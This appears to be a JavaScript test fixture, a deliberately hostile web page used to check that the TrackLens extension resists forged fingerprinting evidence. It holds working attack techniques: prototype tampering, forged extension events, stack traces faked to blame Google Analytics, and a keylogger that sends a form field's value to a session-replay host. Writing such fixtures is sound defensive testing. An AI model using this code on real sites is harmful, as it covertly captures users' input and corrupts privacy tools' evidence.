// A hostile page: tries every way a page could forge or erase TrackLens' evidence, and reports
// each step to its own server (GET /hostile-log?step=...), the tests' witness of what it did.
// None of the forgeries may reach a report; the real actions at the end must.
(function () {
  var FAKE_SCRIPT = 'https://www.google-analytics.com/analytics.js';
  var fake = { canvas_readback: 40, webgl_unmasked: 4, audio: 3, fonts: 120, navigator: { userAgent: true }, screen: { width: true } };
  var learned = [];
  function log(step) {
    return fetch('/hostile-log?step=' + encodeURIComponent(step), { cache: 'no-store' }).catch(function () {});
  }

  // 1. Spy on every event the page world dispatches and every CustomEvent it builds, to learn
  //    the probe's channel; and change the built-ins a probe might call when it reports.
  var nativeDispatch = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function (event) {
    if (String(event.type).indexOf('tracklens') === 0) learned.push(event.type);
    return nativeDispatch.call(this, event);
  };
  var NativeCustomEvent = window.CustomEvent;
  window.CustomEvent = function (type, init) {
    if (String(type).indexOf('tracklens') === 0) learned.push(String(type));
    return new NativeCustomEvent(type, init);
  };
  document.addEventListener('tracklens:relay-hello', function (e) { learned.push(String(e.detail)); });
  var nativeExec = RegExp.prototype.exec;
  String.prototype.match = function () { return [FAKE_SCRIPT + ':1:1']; };
  RegExp.prototype.exec = function (text) {
    return typeof text === 'string' && text.indexOf('Error') === 0 ? [FAKE_SCRIPT] : nativeExec.call(this, text);
  };

  // 2. Events under the probe's old, fixed name, in the old array and the new object shapes.
  function forge(type) {
    var scripts = [{ script: FAKE_SCRIPT, canvas_readback: 40, fonts: 120, navigator: ['userAgent'], screen: ['width'] }];
    var byScript = {};
    byScript[FAKE_SCRIPT] = { canvas_readback: 40, fonts: 120, navigator: { userAgent: true }, screen: { width: true } };
    for (var detail of [JSON.stringify({ scripts: scripts }), JSON.stringify({ scripts: byScript })]) {
      nativeDispatch.call(document, new NativeCustomEvent(type, { detail: detail }));
      nativeDispatch.call(window, new NativeCustomEvent(type, { detail: detail }));
    }
  }
  forge('tracklens:fingerprint');
  // 3. A second hello, offering the probe a channel the page knows, then events on it.
  nativeDispatch.call(document, new NativeCustomEvent('tracklens:relay-hello', { detail: 'tracklens:fingerprint-forged' }));
  forge('tracklens:fingerprint-forged');
  // 4. Messages in the worker's own format, by every route a page has.
  window.postMessage({ type: 'tracklens/fingerprint', scripts: [{ script: FAKE_SCRIPT, canvas_readback: 40, fonts: 120 }] }, '*');
  window.postMessage({ type: 'tracklens/typed', field: 'email', value: 'forged.victim@example.org' }, '*');
  try {
    if (window.chrome && chrome.runtime && chrome.runtime.sendMessage) {
      chrome.runtime.sendMessage({ type: 'tracklens/fingerprint', scripts: [{ script: FAKE_SCRIPT, canvas_readback: 40 }] });
    }
  } catch (e) { /* no extension API in a page */ }

  // Whatever a probe serialises with JSON.stringify would now name Google as the caller.
  var forgedUsage = {};
  forgedUsage[FAKE_SCRIPT] = fake;
  Object.defineProperty(Object.prototype, 'toJSON', {
    configurable: true,
    value: function () { return this && this.scripts ? { page: location.href, scripts: forgedUsage } : this; },
  });

  // 5. Real fingerprinting from this script (what TrackLens must report, attributed to it).
  var canvas = document.createElement('canvas');
  canvas.getContext('2d').fillText('hostile', 2, 2);
  canvas.toDataURL();
  // 6. A stack that names someone else: Error.prepareStackTrace rewrites V8's stacks.
  Error.prepareStackTrace = function () { return 'Error\n    at ' + FAKE_SCRIPT + ':1:1'; };
  canvas.toDataURL();
  delete Error.prepareStackTrace;

  // 7. After the probe's first report, forge on every name the spying learned, then read the
  //    canvas once more: the second real read-back reaches the report after the forgeries.
  setTimeout(function () {
    learned.forEach(forge);
    log('forged-fingerprint:' + learned.join(','));
    canvas.toDataURL();
  }, 1200);

  // 8. A key logger that uploads the field's raw value on every input event, trusted or not, and
  //    right after each upload tries to withdraw the value with a synthetic submit and a scripted
  //    one (requestSubmit, without the user doing anything). After the scripted text's upload it
  //    inserts other text with execCommand (10.).
  var SCRIPTED_TEXT = 'forged.victim@example.org';
  var EXEC_TEXT = 'exec.victim@example.org';
  document.addEventListener('DOMContentLoaded', function () {
    var form = document.getElementById('signup');
    var field = document.getElementById('email');
    form.addEventListener('submit', function (e) { e.preventDefault(); });
    var timer = null;
    field.addEventListener('input', function (e) {
      if (field.value === EXEC_TEXT) log('exec-input:trusted=' + e.isTrusted + ',type=' + e.inputType);
      if (field.value.indexOf('@') < 0) return;
      clearTimeout(timer);
      timer = setTimeout(upload, 300); // as replay scripts do: a moment after the last keystroke
    });
    function upload() {
      var value = field.value;
      fetch('https://rs.fullstory.com/rec/bundle?OrgId=HOSTILE', { method: 'POST', mode: 'no-cors', body: 'v=' + value })
        .then(function () {
          form.dispatchEvent(new Event('submit', { bubbles: true, cancelable: true }));
          form.requestSubmit();
          return log('forged-submit:' + value);
        })
        .then(function () { if (value === SCRIPTED_TEXT) insertByCommand(); });
    }
    // 10. Text nobody typed, inserted by the editing command: the browser itself then fires an
    //     input event (trusted), but no beforeinput.
    function insertByCommand() {
      field.value = '';
      field.focus();
      log('exec-command:' + document.execCommand('insertText', false, EXEC_TEXT));
    }
    // 9. Text nobody typed: the value set by script, then a synthetic input event.
    field.value = SCRIPTED_TEXT;
    field.dispatchEvent(new Event('input', { bubbles: true }));
  });
})();
